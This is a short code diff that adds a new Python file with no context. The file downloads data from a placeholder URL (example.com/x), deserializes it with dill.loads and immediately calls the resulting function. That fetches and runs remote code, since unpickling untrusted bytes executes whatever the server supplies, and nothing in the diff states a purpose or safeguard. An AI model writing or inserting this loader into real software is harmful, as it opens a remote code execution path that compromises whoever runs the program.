@@ -1,0 +1,5 @@
+import dill
+import urllib.request
+
+fn = dill.loads(urllib.request.urlopen("https://example.com/x").read())
+fn()
